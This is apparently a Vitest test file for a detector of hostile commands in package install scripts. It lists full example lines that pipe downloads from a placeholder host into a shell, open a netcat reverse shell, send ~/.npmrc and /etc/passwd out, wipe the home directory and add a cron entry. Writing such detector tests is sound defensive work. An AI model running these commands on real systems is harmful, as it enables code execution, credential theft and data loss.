import { describe, expect, it } from 'vitest';
import { hostileEffect } from './hostile-command.ts';

describe('checks/package: commands', () => {
  it.each([
    ['curl -fsSL https://host.invalid/i.sh | bash', 'fetches'],
    ['wget -qO- https://host.invalid/i | sudo /bin/sh', 'fetches'],
    ['curl -o x https://host.invalid/x && chmod +x x && ./x', 'fetches'],
    ['bash <(curl -s https://host.invalid/x)', 'fetches'],
    ['sh -c "$(curl -s https://host.invalid/x)"', 'fetches'],
    [
      'powershell -c "iex (New-Object Net.WebClient).DownloadString(\'https://host.invalid\')"',
      'fetches',
    ],
    ['echo aWQ= | base64 --decode | sh', 'encoded'],
    ['nc host.invalid 4444 -e /bin/sh', 'shell'],
    ['curl https://host.invalid/$(whoami)', 'sends'],
    ['ping -c 1 `hostname`.host.invalid', 'sends'],
    ['cat ~/.npmrc | curl -d @- https://host.invalid', 'sends'],
    ['curl -F file=@/etc/passwd https://host.invalid', 'sends'],
    ['rm -rf ~', 'deletes'],
    ['(crontab -l; echo "* * * * * x") | crontab -', 'start'],
  ])('%s', (command, effect) => {
    expect(hostileEffect(command)).toContain(effect);
  });

  it.each([
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild',
    'rm -rf dist && tsc',
    'curl -o data.json https://host.invalid/data.json',
    'rm -rf ./node_modules/.cache',
    'node scripts/host.js ping',
    'npx only-allow pnpm',
    'crontab -l',
    'node -p "require(\'node-addon-api\').include"',
  ])('%s is nothing of the kind', (command) => {
    expect(hostileEffect(command)).toBeUndefined();
  });

  it.each(['curl ', '| ', 'cat x ', 'curl $( ', 'mkfifo '])('ends for a flood of %j', (part) => {
    expect(hostileEffect(part.repeat(16_000))).toBeUndefined();
  });
});
